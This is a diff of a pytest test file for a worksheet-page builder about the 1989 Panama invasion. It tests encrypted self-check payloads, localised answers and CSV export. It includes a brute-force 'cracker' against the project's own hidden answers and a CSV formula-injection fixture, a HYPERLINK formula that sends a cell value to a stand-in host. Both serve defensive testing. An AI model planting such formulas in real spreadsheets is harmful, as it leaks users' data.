@@ -17,7 +17,7 @@ import nbformat
 import pytest
 
 from helpers.answers import normalise_text
-from helpers.build import aesgcm, selfcheck
+from helpers.build import selfcheck
 
 LESSON = "99_worksheet"
 YAML = textwrap.dedent("""\
@@ -41,7 +41,7 @@ YAML = textwrap.dedent("""\
         question: Who made the highest estimate?
         type: text
         answer: Noriega
-        accept: [Manuel Noriega, General Noriega]
+        accept: [Manuel Noriega, General Noriega, Manuel Antonio Noriega]
         hints: {wrong: "Look at the estimated_by column of the largest value."}
         explanation: "Manuel Antonio Noriega claimed in December 1990 that ten thousand had died."
       ws-choice:
@@ -63,6 +63,12 @@ YAML = textwrap.dedent("""\
         answer: [c, b, a]
         hints: {wrong: "Read the date of each event."}
         explanation: "The indictments came in February 1988, the annulment in May 1989, the invasion in December."
+      ws-count:
+        question: How many Panamanians did the highest estimate count?
+        type: number
+        answer: 1300
+        hints: {low: "Too low.", high: "Too high."}
+        explanation: "A count of one thousand three hundred, written the local way or not."
       ws-yesno:
         question: Did the OAS vote on the invasion?
         type: yesno
@@ -111,7 +117,7 @@ def worksheet_pages(tmp_path_factory):
         cell = nbformat.v4.new_code_cell("estimate_ranges(deaths)")
         cell.outputs = [html_out(figure_html(chart.to_dict()))]
         cells.append(cell)
-    for key in ("ws-number", "ws-text", "ws-choice", "ws-set", "ws-order", "ws-yesno"):
+    for key in ("ws-number", "ws-text", "ws-choice", "ws-set", "ws-order", "ws-count", "ws-yesno"):
         cells.append(nbformat.v4.new_markdown_cell(f"### Exercise {key}"))
         cell = nbformat.v4.new_code_cell(f'answer = ...\ncheck("{key}", answer)')
         cell.outputs = [html_out("<div class='ih-feedback ih-missing'>… No answer yet</div>")]
@@ -129,6 +135,13 @@ def worksheet_pages(tmp_path_factory):
 
     out = base / "out"
     pages = {which: export(notebook, LESSON, which, out) for which in ("learner", "facilitator")}
+    from helpers.build.translate import set_page_language
+    from helpers.i18n import using_language
+
+    for language in ("es", "pt"):  # the same page in a reader's language (no lesson catalogue)
+        with using_language(language):
+            pages[f"learner_{language}"] = export(notebook, LESSON, "learner", out / language)
+        set_page_language(pages[f"learner_{language}"], language)
     yield {"out": out, "charts": [c.to_dict() for c in charts], **pages}
     mp.undo()
 
@@ -138,13 +151,19 @@ def _text(path: Path) -> str:
 
 
 # ---------------------------------------------------------------- without a browser
-def test_aes_gcm_matches_the_published_test_vectors():
+def test_aes_gcm_comes_from_the_cryptography_package_and_reads_back():
+    """The pure-Python AES is gone (issue 22): AES-GCM is the cryptography package's, in Web
+    Crypto's layout (IV, ciphertext, 16-byte tag); tests/test_browser.py decrypts it in Chromium."""
+    import base64
+
+    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+
+    assert not (Path(selfcheck.__file__).parent / "aesgcm.py").exists()
     key = bytes(range(32))
-    assert aesgcm.aes256_block(key, bytes.fromhex("00112233445566778899aabbccddeeff")).hex() == \
-        "8ea2b7ca516745bfeafc49904b496089"  # FIPS-197, appendix C.3
-    assert aesgcm.encrypt(bytes(32), bytes(12), bytes(16)).hex() == \
-        "cea7403d4d606b6e074ec5d3baf39d18d0d1c8a799996bf0265b98b5d48ab919"  # GCM test case 14
-    assert aesgcm.encrypt(bytes(32), bytes(12), b"").hex() == "530f8afbc74536b9a963b4f1c4cb738b"
+    packed = base64.b64decode(selfcheck.encrypt(key, b"an explanation"))
+    assert len(packed) == 12 + len(b"an explanation") + 16
+    assert AESGCM(key).decrypt(packed[:12], packed[12:], None) == b"an explanation"
+    assert selfcheck.encrypt(key, b"x") != selfcheck.encrypt(key, b"x"), "the IV must be fresh"
 
 
 def test_a_numbers_tolerance_grid_holds_every_accepted_value():
@@ -167,6 +186,124 @@ def test_a_payload_holds_no_answer_and_no_explanation(worksheet_pages):
                 assert normalise_text(form) not in normalise_text(text), f"{key}: {form!r} is readable"
 
 
+# ---------------------------------------------------------------- a cracker, as the reviewer wrote one
+def page_payloads(path: Path) -> dict[str, dict]:
+    """Every self-check payload in a page, by exercise id: all a cracker has to work with."""
+    import json
+
+    blocks = re.findall(r"<script[^>]*id=.ih-check-[^>]*>(.*?)</script>", _text(path), re.S)
+    return {p["id"]: p for p in map(json.loads, blocks)}
+
+
+def fast_digests(payload: dict) -> set[str]:
+    """Every hex string in a payload that a cracker could test with one fast hash."""
+    import json
+
+    tags = {k["t"] for k in payload["keys"]}
+    return set(re.findall(r'"([0-9a-f]{16,64})"', json.dumps(payload))) - tags
+
+
+def crack_number_fast(payload: dict) -> tuple[int, int, int]:
+    """Follow the bins with SHA-256 only, as the reviewer's script did: (lowest, highest scaled
+    value the fast digests leave, hashes spent)."""
+    import base64
+    import hashlib
+
+    salt, width, top = base64.b64decode(payload["salt"]), payload["w0"], len(payload["bins"]) - 1
+    spent, found = 0, None
+    for level, wanted in enumerate(payload["bins"]):
+        j = top - level
+        tries = range(-20, 21) if found is None else range(found * 10, found * 10 + 10)
+        for b in tries:
+            spent += 1
+            if hashlib.sha256(salt + f"b:{j}:{b}".encode()).hexdigest()[:24] == wanted:
+                found = b
+                break
+        else:
+            raise AssertionError(f"level {j}: no bin matched")
+    return found * width, found * width + width - 1, spent
+
+
+def test_a_number_cannot_be_recovered_without_the_slow_derivation(worksheet_pages):
+    """Issue 22, defect 5: the bins held salted SHA-256 of the answer down to the exact value,
+    so a script read it in about 200 fast hashes. Now the fast digests stop at the tolerance:
+    they leave several values, and only a PBKDF2 derivation tells which one unlocks."""
+    import base64
+    import hashlib
+
+    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
+
+    payload = page_payloads(worksheet_pages["learner"])["ws-number"]
+    centre = 375  # 37.5 at one decimal
+    candidates = set()
+    for j in range(-3, 20):
+        candidates |= {f"b:{j}:{centre}", f"b:{j}:{centre // 10}", f"n:1:{centre}", f"{centre}", "37.5", f"i:{centre}"}
+    salt = base64.b64decode(payload["salt"])
+    exposed = {hashlib.sha256(salt + c.encode()).hexdigest()[:24] for c in candidates} & fast_digests(payload)
+    assert not exposed, "a fast digest pins the exact answer"
+    low, high, spent = crack_number_fast(payload)
+    assert low <= centre <= high and spent < 400, "the cracker no longer follows the bins"
+    assert high - low + 1 >= 11, "the fast digests narrow the answer below the tolerance (±0.5: 11 values)"
+    # The rest needs the slow derivation: each guess costs PBKDF2 at the page's iteration count.
+    slow = 0
+    for value in range(low, high + 1):
+        form = f"n:1:{value}"
+        slow_base = selfcheck.derive(selfcheck.slow_secret(form, payload["w0"]), salt, payload["it"])
+        slow += 1
+        tag = selfcheck.mac(slow_base, "t:" + form)[:12].hex()
+        entry = next((k for k in payload["keys"] if k["t"] == tag), None)
+        if entry:
+            wrapped = base64.b64decode(entry["w"])
+            content = AESGCM(selfcheck.mac(slow_base, "w:" + form)).decrypt(wrapped[:12], wrapped[12:], None)
+            packed = base64.b64decode(payload["ex"][entry["e"]]["c"])
+            text = AESGCM(content).decrypt(packed[:12], packed[12:], None).decode()
+            break
+    else:
+        raise AssertionError("the slow route did not unlock either")
+    assert "Ten thousand divided" in text and slow >= 1
+    assert payload["it"] == selfcheck.ITERATIONS >= 50_000, "fewer rounds than make bench chose"
+
+
+def test_an_exact_number_has_no_fast_digest_either():
+    """Tolerance 0 (a count): the finest bin still holds two values."""
+    import base64
+    import hashlib
+
+    spec = {"id": "t", "type": "number", "answer": 224, "tolerance": 0, "explanation": "x"}
+    payload = selfcheck.payload(spec, iterations=1000)
+    salt = base64.b64decode(payload["salt"])
+    assert payload["w0"] >= 2
+    exact = {hashlib.sha256(salt + f"b:{j}:{224}".encode()).hexdigest()[:24] for j in range(-3, 20)}
+    assert not exact & fast_digests(payload)
+
+
+def test_set_and_order_items_need_the_slow_derivation(worksheet_pages):
+    """Their item and position digests matched fast SHA-256 over the letters (15 ms a set)."""
+    import base64
+    import hashlib
+
+    payloads = page_payloads(worksheet_pages["learner"])
+    for key in ("ws-set", "ws-order"):
+        payload = payloads[key]
+        salt = base64.b64decode(payload["salt"])
+        fast = {hashlib.sha256(salt + f"{prefix}{letter}".encode()).hexdigest()[:24]
+                for letter in "abcdefghijkl" for prefix in ("i:", *(f"p:{i}:" for i in range(12)))}
+        assert not fast & fast_digests(payload), f"{key}: a letter has a fast digest"
+        slow = {selfcheck.item_digest(selfcheck.item_base(salt, letter, payload["it"])) for letter in "abc"}
+        assert set(payload["items"]) <= slow, f"{key}: the slow route does not find the items"
+
+
+def test_payloads_are_cached_by_exercise_language_and_spec(tmp_path):
+    spec = {"id": "c-1", "type": "choice", "options": ["x", "y"], "answer": "y", "explanation": "because"}
+    first = selfcheck.cached_payload(spec, "es", iterations=1000, folder=tmp_path)
+    assert selfcheck.cached_payload(spec, "es", iterations=1000, folder=tmp_path) == first
+    assert selfcheck.cached_payload(spec, "pt", iterations=1000, folder=tmp_path) != first
+    changed = selfcheck.cached_payload({**spec, "explanation": "new"}, "es", iterations=1000, folder=tmp_path)
+    assert changed["ex"] != first["ex"], "an edited explanation kept the old payload"
+    (tmp_path / "c-1.es.json").write_text("{damaged", encoding="utf-8")
+    assert selfcheck.cached_payload(spec, "es", iterations=1000, folder=tmp_path)["keys"]
+
+
 def test_learner_page_hides_setup_folds_code_and_keeps_answers_out(worksheet_pages):
     learner, facilitator = _text(worksheet_pages["learner"]), _text(worksheet_pages["facilitator"])
     assert "from helpers import load, check" not in learner, "the set-up cell is still shown"
@@ -184,6 +321,26 @@ def test_learner_page_hides_setup_folds_code_and_keeps_answers_out(worksheet_pag
     assert "connect-src 'none'" in policy and "default-src 'none'" in policy
     assert "https:" not in policy and "http:" not in policy
     assert "'unsafe-eval'" not in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
+
+
+def test_editions_are_kept_apart_and_say_what_the_self_checks_hide(worksheet_pages, tmp_path):
+    """Issue 22: the learner index and pages link no facilitator edition; facilitators get
+    facilitator.html; the banner and the facilitator's notes say per kind what is hidden."""
+    from helpers.build.index import write_index
+    from helpers.build.selfcheck import strength_note
+
+    hrefs = lambda text: set(re.findall(r'href="([^"#]+)', text))  # noqa: E731
+    learner, facilitator = _text(worksheet_pages["learner"]), _text(worksheet_pages["facilitator"])
+    assert not [h for h in hrefs(learner) if "facilitator" in h], "a learner page links the answers"
+    assert "index.html" in hrefs(learner) and "facilitator.html" in hrefs(facilitator)
+    assert "trying each option finds a choice" in learner and "keep the answers out of this page" not in learner
+    assert "a short script does it in under a second" in facilitator.replace("&#x27;", "'")
+    info = {"stem": LESSON, "title": "99 · A worksheet test", "duration": "20 min", "objectives": []}
+    index = write_index([info], tmp_path, {})
+    front, back = index.read_text(encoding="utf-8"), (tmp_path / "facilitator.html").read_text(encoding="utf-8")
+    assert f"{LESSON}.html" in hrefs(front) and not [h for h in hrefs(front) if "facilitator" in h]
+    assert {f"{LESSON}.facilitator.html", f"{LESSON}.html"} <= hrefs(back)
+    assert "do not send them to learners" in back and strength_note("facilitator")[:40] in back.replace("&#x27;", "'")
 
 
 # ---------------------------------------------------------------- in Chromium, offline
@@ -227,19 +384,26 @@ def answer(page, key: str, text: str) -> tuple[str, str]:
         "k => document.querySelector(`[data-ih-exercise='${k}']`).getAttribute('data-ih-busy') === 'false'",
         arg=key, timeout=15000)
     feedback = box.locator(".ih-feedback")
-    status = re.search(r"ih-(correct|partial|incorrect|invalid|missing)", feedback.get_attribute("class")).group(1)
+    status = re.search(r"ih-(correct|defensible|partial|incorrect|invalid|missing)",
+                       feedback.get_attribute("class")).group(1)
     return status, feedback.inner_text()
 
 
 CASES = [  # (exercise, typed, status, words the feedback must contain)
     ("ws-number", "37.5", "correct", "Ten thousand divided"),
     ("ws-number", "37,9", "correct", "Ten thousand divided"),
-    ("ws-number", "40", "correct", "Against the commission's 250"),
+    ("ws-number", "40", "defensible", "Against the commission's 250"),
+    ("ws-number", "40", "defensible", "Ten thousand divided"),  # and the key's reading
     ("ws-number", "12", "incorrect", "Too low: divide"),
     ("ws-number", "380", "incorrect", "Too high: use"),
     ("ws-number", "a lot", "invalid", "Give a number such as 12.5."),
     ("ws-text", "General Noriega", "correct", "Manuel Antonio Noriega claimed"),
-    ("ws-text", "Manuel Antonio Noriega Moreno", "correct", "Manuel Antonio Noriega claimed"),
+    ("ws-text", "General Manuel Antonio Noriega", "correct", "Manuel Antonio Noriega claimed"),
+    ("ws-text", "Noreiga", "correct", "nearly exact"),
+    ("ws-text", "not Noriega", "incorrect", "estimated_by column"),
+    ("ws-text", "Noriega? no, Bush", "incorrect", "estimated_by column"),
+    ("ws-text", "Bush Noriega Endara Thurman", "incorrect", "estimated_by column"),
+    ("ws-text", "Noriega " * 2000, "incorrect", "estimated_by column"),
     ("ws-text", "Bush", "incorrect", "estimated_by column"),
     ("ws-choice", "c", "correct", "The month is right"),
     ("ws-choice", "Contradicted", "correct", "The month is right"),
@@ -265,6 +429,41 @@ def test_every_type_of_answer_gets_the_feedback_check_gives(worksheet_pages, bro
         for key, typed, status, words in CASES:
             got, text = answer(page, key, typed)
             assert (got, words in text) == (status, True), f"{key} {typed!r}: {got}: {text}"
+        assert page.errors == [] and page.leaving == []
+    finally:
+        page.close()
+
+
+LOCAL_CASES = {  # (exercise, typed, status, words the feedback must contain): answers in the page's language
+    "pt": [("ws-choice", "contradita", "correct", "Correto"),
+           ("ws-choice", "Contradita", "correct", "The month is right"),
+           ("ws-choice", "parcialmente sustentada", "incorrect", "Ainda não"),
+           ("ws-choice", "sustentada demais", "invalid", "letras"),
+           ("ws-set", "a e b", "correct", "Counters differed"),
+           ("ws-order", "c, b e a", "correct", "The indictments came"),
+           ("ws-number", "37,5", "correct", "vírgula"),
+           ("ws-number", "1.300", "incorrect", "ponto como separador decimal"),
+           ("ws-count", "1.300", "correct", "separando os milhares"),
+           ("ws-count", "1300", "correct", "one thousand three hundred"),
+           ("ws-text", "não Noriega", "incorrect", "estimated_by"),
+           ("ws-text", "General Noriega", "correct", "Manuel Antonio Noriega claimed")],
+    "es": [("ws-choice", "contradicha", "correct", "Correcto"),
+           ("ws-set", "a y b", "correct", "Counters differed"),
+           ("ws-set", "b y c", "partial", "En parte"),
+           ("ws-number", "40", "defensible", "Defendible"),
+           ("ws-count", "1.300", "correct", "separador de miles"),
+           ("ws-text", "Noriega? no, Bush", "incorrect", "Todavía no")],
+}
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("language", sorted(LOCAL_CASES))
+def test_answers_in_the_readers_language(worksheet_pages, browser, language):
+    page = open_offline(browser, worksheet_pages[f"learner_{language}"])
+    try:
+        for key, typed, status, words in LOCAL_CASES[language]:
+            got, text = answer(page, key, typed)
+            assert (got, words in text) == (status, True), f"{language} {key} {typed!r}: {got}: {text}"
         assert page.errors == [] and page.leaving == []
     finally:
         page.close()
@@ -303,6 +502,46 @@ def chart_rows(spec: dict) -> dict[str, list[dict]]:
             for name, rows in spec["datasets"].items()}
 
 
+def csv_shown(value) -> str:
+    """What a chart's CSV download holds for a cell: dates at midnight as dates, and a text
+    that a spreadsheet would run as a formula behind a quote (numbers stay numbers)."""
+    if value is None:
+        return ""
+    text = str(value)
+    if isinstance(value, str):
+        text = re.sub(r"^(\d{4}-\d{2}-\d{2})T00:00:00(\.0+)?Z?$", r"\1", text)
+        if re.match(r"[=+\-@\t\r]", text) and not re.fullmatch(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?", text):
+            text = "'" + text
+    return text
+
+
+@pytest.mark.browser
+def test_csv_downloads_neutralise_formulas_and_keep_numbers_and_dates(browser, tmp_path):
+    """Issue 22: '=HYPERLINK(...)' in a note reached the CSV as a live formula; dates came
+    out as 1989-12-01T00:00:00. Numbers, negative ones too, must stay numbers."""
+    import json
+
+    rows = [{"note": '=HYPERLINK("https://example.invalid/?q="&B2,"see source")', "value": -52.2,
+             "as_of": "1989-12-01T00:00:00", "text_number": "-84.6", "a": "+1 more", "b": "@SUM(A1)",
+             "c": "-1+2", "d": "\tTAB", "e": "\rCR", "f": "plain, with comma", "_hidden": 1}]
+    script = (Path(selfcheck.__file__).parent / "assets" / "handout.js").read_text(encoding="utf-8")
+    page_file = tmp_path / "csv.html"
+    page_file.write_text('<!DOCTYPE html><html><body><script type="application/json" id="t-spec">'
+                         + json.dumps({"datasets": {"d": rows}}) + "</script><script>" + script
+                         + "</script></body></html>", encoding="utf-8")
+    page = open_offline(browser, page_file)
+    try:
+        text = page.evaluate("ihChartCsv('t-spec', 'd')")
+    finally:
+        page.close()
+    got = next(csv.DictReader(io.StringIO(text)))
+    assert got["note"] == "'" + rows[0]["note"] and got["a"] == "'+1 more" and got["b"] == "'@SUM(A1)"
+    assert got["c"] == "'-1+2" and got["d"] == "'\tTAB" and got["e"] == "'\rCR"
+    assert got["value"] == "-52.2" and got["text_number"] == "-84.6", "a negative number was altered"
+    assert got["as_of"] == "1989-12-01" and got["f"] == "plain, with comma" and "_hidden" not in got
+    assert all(got[k] == csv_shown(v) for k, v in rows[0].items() if not k.startswith("_") and k != "value")
+
+
 def check_downloads(page, specs: list[dict]) -> int:
     """Every chart has a data box and CSV links whose files hold the rows the chart draws."""
     from helpers.build.browser import wait_for_charts
@@ -333,7 +572,7 @@ def check_downloads(page, specs: list[dict]) -> int:
                         if isinstance(value, (int, float)) and not isinstance(value, bool):
                             assert float(got[key]) == value, f"chart {i + 1}, {key}: {got[key]!r} != {value!r}"
                         else:
-                            shown = "" if value is None else str(value)
+                            shown = csv_shown(value)
                             assert got[key] == shown, f"chart {i + 1}, {key}: {got[key]!r} != {shown!r}"
             else:
                 assert rows, f"chart {i + 1}: the CSV is empty"
@@ -409,3 +648,19 @@ def test_a_damaged_chart_library_cache_is_rebuilt(tmp_path, monkeypatch):
     blob = sorted((tmp_path / "intervention-history").glob("vega-only-*.b64"))[0]
     blob.write_text("AAAA" + packed_again[4:], encoding="utf-8")  # altered bytes
     assert render.packed_vega()[1] == packed
+
+
+def test_the_handout_drops_the_same_titles_and_negations_as_check():
+    """handout.js keeps its own copy of the words a name may carry (exercises.TITLES) and of the
+    negations that end typo tolerance: the two must not drift apart."""
+    from helpers.exercises import NEGATIONS, TITLES, TYPO_MAX, TYPO_MIN
+
+    script = (Path(selfcheck.__file__).parent / "assets" / "handout.js").read_text(encoding="utf-8")
+
+    def words(name):
+        block = re.search(r"var " + name + r" = \(?(.*?)\)?\.split\(\" \"\)", script, re.S).group(1)
+        return set(" ".join(re.findall(r'"([^"]*)"', block)).split())
+
+    assert words("TITLES") == set(TITLES)
+    assert words("NEGATIONS") == set(NEGATIONS)
+    assert f"text.length < {TYPO_MIN} || text.length > {TYPO_MAX}" in script
